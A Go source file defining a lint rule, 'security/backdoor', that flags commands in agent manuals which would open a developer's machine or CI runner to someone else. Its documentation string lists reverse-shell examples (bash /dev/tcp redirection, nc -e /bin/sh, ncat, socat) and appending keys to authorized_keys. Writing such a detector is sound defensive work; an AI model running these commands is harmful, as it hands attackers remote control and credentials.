package lint

import (
	"github.com/lorekit/lore/internal/diag"
	"github.com/lorekit/lore/internal/lint/scan"
)

var securityBackdoor = securityRule(&Rule{
	ID: "security/backdoor", Severity: diag.Error,
	Summary: "a command that gives someone else access to the machine",
	Doc: "An agent runs the commands its manuals show, on a developer's machine or a CI runner with its credentials. The rule " +
		"reports, wherever security/remote-exec reads commands (code blocks, inline code, shipped scripts; also disguised), a " +
		"command that opens that machine to someone else: a reverse shell (`bash -i >& /dev/tcp/host/port 0>&1`, `nc -e /bin/sh`, " +
		"`ncat -c cmd.exe`, `socat … exec:`, a FIFO piped into nc, a Python socket handed to a shell) and a key written into " +
		"`~/.ssh/authorized_keys` (`>>`, `tee -a`). A port check (`echo > /dev/tcp/localhost/5432`, `nc -z`) and reading the file " +
		"are not reported. No manual needs an agent to run one: delete the command.",
}, "delete the command", func(t *scanText) []scan.Hit {
	return execHits(t, true)
})
